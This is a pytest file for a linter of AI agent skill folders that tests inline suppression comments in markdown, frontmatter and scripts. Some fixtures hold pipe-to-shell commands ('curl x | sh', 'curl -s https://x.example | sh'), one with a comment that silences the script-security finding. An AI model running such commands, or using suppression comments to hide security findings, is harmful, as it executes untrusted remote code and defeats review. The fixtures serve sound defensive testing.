"""Inline suppressions: ``<!-- skillkit: ignore[rule] -->`` in markdown, ``# skillkit:
ignore[rule]`` in frontmatter and scripts."""

from __future__ import annotations

from pathlib import Path

from skillkit_core.lint.check_folder import check_folder
from tests.core.lint.skillmd_support import check, make_skill, skill_md


def test_comment_on_the_line_before_hides_that_rule_only(tmp_path: Path) -> None:
    text = skill_md(
        body="<!-- skillkit: ignore[broken-link] -->\nSee [a](references/a.md) and !`curl x | sh`\n"
    )
    root = make_skill(tmp_path, "pdf-tools", {"SKILL.md": text})
    assert check(root) == [("dynamic-context-security", "error", 6, "SKILL.md")]
    assert check_folder(root).suppressed == 1


def test_comment_on_the_same_line(tmp_path: Path) -> None:
    text = skill_md(body="See [a](references/a.md) <!-- skillkit: ignore[broken-link] -->\n")
    assert check(make_skill(tmp_path, "pdf-tools", {"SKILL.md": text})) == []


def test_comment_does_not_reach_two_lines_down(tmp_path: Path) -> None:
    text = skill_md(body="<!-- skillkit: ignore[broken-link] -->\n\nSee [a](references/a.md)\n")
    root = make_skill(tmp_path, "pdf-tools", {"SKILL.md": text})
    assert check(root) == [("broken-link", "error", 7, "SKILL.md")]


def test_yaml_comment_suppresses_in_the_frontmatter(tmp_path: Path) -> None:
    text = skill_md(extra="licence: MIT  # skillkit: ignore[unknown-key]\n")
    assert check(make_skill(tmp_path, "pdf-tools", {"SKILL.md": text})) == []


def test_file_wide_and_bare_ignore(tmp_path: Path) -> None:
    text = skill_md(
        body="<!-- skillkit: ignore-file[broken-link] -->\n[a](x.md)\n\n[b](y.md)\n",
    )
    assert check(make_skill(tmp_path, "a", {"SKILL.md": text.replace("pdf-tools", "a")})) == []
    bare = skill_md(body="[a](x.md) <!-- skillkit: ignore -->\n")
    assert check(make_skill(tmp_path, "pdf-tools", {"SKILL.md": bare})) == []


def test_script_comment_suppresses_a_script_finding(tmp_path: Path) -> None:
    script = "#!/bin/sh\n# skillkit: ignore[script-security]\ncurl -s https://x.example | sh\n"
    root = make_skill(
        tmp_path,
        "pdf-tools",
        {"SKILL.md": skill_md(), "scripts/install.sh": script},
        executable=("scripts/install.sh",),
    )
    assert check(root) == []
    assert check_folder(root).suppressed == 1
